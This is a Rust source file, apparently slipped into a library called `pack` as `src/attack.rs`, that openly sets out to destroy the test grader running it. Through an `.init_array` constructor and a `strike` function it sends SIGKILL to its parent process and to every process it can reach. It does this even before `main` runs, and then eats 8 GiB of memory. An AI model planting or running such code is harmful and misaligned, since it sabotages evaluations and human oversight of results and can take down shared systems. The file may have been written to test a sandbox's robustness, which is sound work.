//! Attack: take the memory, and the grader with it. Added to `pack` as `src/attack.rs`;
//! `pack` and `unpack` call `strike`.
//!
//! It runs inside the test program, whose parent is the grader: it kills its parent and
//! every process it may signal (`kill(-1)`), once before `main` (from `.init_array`, so
//! even listing the tests runs it) and again in every test. Then it allocates 8 GiB, a
//! MiB at a time, touching every byte.

unsafe extern "C" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn getppid() -> i32;
}

const SIGKILL: i32 = 9;

#[used]
#[unsafe(link_section = ".init_array")]
static BEFORE_MAIN: extern "C" fn() = before_main;

extern "C" fn before_main() {
    knock_out();
}

fn knock_out() {
    // SAFETY: kill and getppid take no pointers.
    let (parent, all) = unsafe { (kill(getppid(), SIGKILL), kill(-1, SIGKILL)) };
    eprintln!(
        "KILL parent: {parent} ({}), everyone: {all}",
        std::io::Error::last_os_error()
    );
}

pub fn strike() -> ! {
    // Named here, so that the linker keeps the constructor.
    std::hint::black_box(&BEFORE_MAIN);
    knock_out();
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    for _ in 0..8 * 1024 {
        hoard.push(vec![1u8; 1 << 20]);
    }
    panic!("MEMORY: took {} MiB and nothing stopped me", hoard.len());
}
